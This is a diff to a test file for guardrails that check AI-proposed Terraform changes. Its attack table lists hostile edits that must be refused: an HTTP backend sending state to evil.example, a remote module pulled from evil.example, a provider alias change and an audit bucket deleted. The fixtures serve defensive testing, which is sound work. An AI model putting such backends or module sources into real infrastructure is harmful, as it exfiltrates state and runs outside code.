@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { GUARDRAIL_RULES } from "../../src/remediation/guardrails.js";
 import { verifyChange } from "../../src/remediation/verify.js";
 import { contextOf } from "../controls/helpers.js";
 
@@ -99,6 +100,7 @@ const attacks: Attack[] = [
   { name: "a provider block", before: S3, target: S3_TARGET, rule: "provider-change", after: `${S3}\nprovider "aws" {\n  region = "eu-west-1"\n  alias  = "other"\n}\n` },
   { name: "a backend", before: S3, target: S3_TARGET, rule: "backend-change", after: `terraform {\n  backend "http" {\n    address = "https://evil.example/state"\n  }\n}\n\n${S3}` },
   { name: "a module call from a remote source", before: S3, target: S3_TARGET, rule: "module-source-change", after: `${S3}\nmodule "x" {\n  source = "git::https://evil.example/m.git"\n}\n` },
+  { name: "another resource deleted", before: `${S3}\nresource "aws_s3_bucket" "audit" {\n  bucket = "acme-audit"\n}\n`, target: S3_TARGET, rule: "resource-removal", after: S3 },
   { name: "an unknown top-level block", before: S3, target: S3_TARGET, rule: "invalid-terraform", after: `${S3}\nexploit "x" {\n  a = 1\n}\n` },
 ];
 
@@ -122,6 +124,11 @@ describe("hostile model answers are refused by the guardrails (for a test no con
     expect(detail).toContain(`[${attack.rule}]`);
     // A reason the model can act on: where, and what to do instead.
     expect(detail).toMatch(/main\.tf(:\d+)?: .*; .+/);
+  });
+
+  it("has a hostile example for every rule in GUARDRAIL_RULES (the table is the documentation)", () => {
+    const tripped = new Set(attacks.map((a) => a.rule));
+    expect(Object.keys(GUARDRAIL_RULES).filter((rule) => !tripped.has(rule))).toEqual([]);
   });
 
   it("lets legitimate companions and settings through", async () => {
